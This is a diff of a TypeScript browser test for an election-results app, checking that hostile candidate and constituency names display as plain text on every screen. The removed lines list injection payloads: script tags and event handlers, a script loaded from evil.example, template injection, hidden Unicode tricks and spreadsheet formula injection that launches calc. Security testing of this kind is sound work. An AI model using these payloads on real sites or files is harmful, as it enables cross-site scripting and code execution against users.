@@ -1,75 +1,11 @@
-import type { Contest } from '@night/shared/contest'
-import type { NightDefinition } from '@night/shared/night'
 import type { Page } from 'playwright-core'
 import { expect, test } from 'vitest'
 import { openPage } from './support/browser.ts'
-import { type Call, deskToken } from './support/call.ts'
+import { deskToken } from './support/call.ts'
+import { bare, hostileNight, payloads, unseen } from './support/hostile.ts'
 import { openHouse } from './support/house.ts'
-import {
-  declarationOf,
-  definitionOf,
-  midBedfordshire,
-  nightName,
-  october,
-  tamworth,
-} from './support/night.ts'
+import { declarationOf, midBedfordshire, october, tamworth } from './support/night.ts'
 import { until } from './support/until.ts'
-
-const payloads = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  'javascript:alert(1)//',
-  '"><b onmouseover=alert(1)>x</b>',
-  `' onfocus='alert(1)' autofocus='`,
-  '</template><script src=https://evil.example/x.js></script>',
-  '</textarea></title><style>*{display:none}</style>',
-  `{{constructor.constructor('alert(1)')()}}`,
-  '${alert(1)} #{7*7} <%= 7*7 %>',
-  'Anna \u202Enoitcele\u202C \u2066Berg\u2069',
-  'Ca\u200Brl\u2060a \uFEFFZero\u200D',
-  '=HYPERLINK("https://evil.example/","x")',
-  `+cmd|' /C calc'!A0`,
-  '@SUM(1+1)*cmd',
-  '-2+3+cmd',
-  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;',
-  '<!--board-->',
-  "$& $` $' $1",
-  '<iframe src=javascript:alert(1)></iframe>',
-  '<a href=https://evil.example/>x</a><base href=//evil.example/>',
-  'Bartholomew '.repeat(25).trim(),
-] as const
-
-const unseen = /[\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/g
-
-/** What of a name can be seen: neither what turns the writing round nor what has no width. */
-const bare = (text: string): string => text.replaceAll(unseen, '').replaceAll(/\s+/g, ' ')
-
-const hostile = (contest: Contest, first: number): Contest => ({
-  ...contest,
-  constituency: { ...contest.constituency, name: `<img src=x onerror=alert(${first})> & "Sons"` },
-  candidates: contest.candidates.map((candidate, place) => {
-    const name = payloads[(first + place) % payloads.length] ?? ''
-    return { ...candidate, name, description: name }
-  }),
-  cause: '<svg onload=alert(1)> resigned',
-})
-
-/** The October night in which nobody and nothing has a name that one would like to display. */
-const openHostile = async (call: Call): Promise<NightDefinition> => {
-  const { contests, ...definition } = await definitionOf(october)
-  const [one, other] = contests
-  if (!one || !other) throw new Error('The October night has two contests')
-  const night = {
-    ...definition,
-    id: nightName(),
-    title: '</title></template><script>alert(1)</script> {{7*7}}',
-    contests: [hostile(one, 0), hostile(other, one.candidates.length)],
-  }
-  const body = { id: night.id, mode: 'rehearsal', definition: night }
-  expect((await call('POST', '/api/nights', body)).status).toBe(201)
-  return night
-}
 
 /** Everything that a page did, and must not have done. */
 const watch = (page: Page, url: string): string[] => {
@@ -106,7 +42,7 @@ const textOf = async (page: Page): Promise<string> => {
 
 test('[SCR6 SEC14] hostile names are harmless on every screen, and are read as text', async () => {
   const { server, call, desk } = await openHouse()
-  const night = await openHostile(call)
+  const night = await hostileNight(call)
   await desk.reached(night.id, 1)
   const names = (seat: string): string[] => {
     const contest = night.contests.find(({ constituency }) => constituency.id === seat)
@@ -150,4 +86,7 @@ test('[SCR6 SEC14] hostile names are harmless on every screen, and are read as t
   await look('/overlay/strap?mode=rehearsal&', [seatName])
   await look('/overlay/score?mode=rehearsal&', ['2 of 2'])
   await look('/overlay/ticker?mode=rehearsal&', [seatName])
+  await look('/embed/strap?', [bare(night.title), seatName])
+  await look('/embed/score?', ['2 of 2'])
+  await look('/embed/map?', [bare(night.title)])
 }, 90_000)
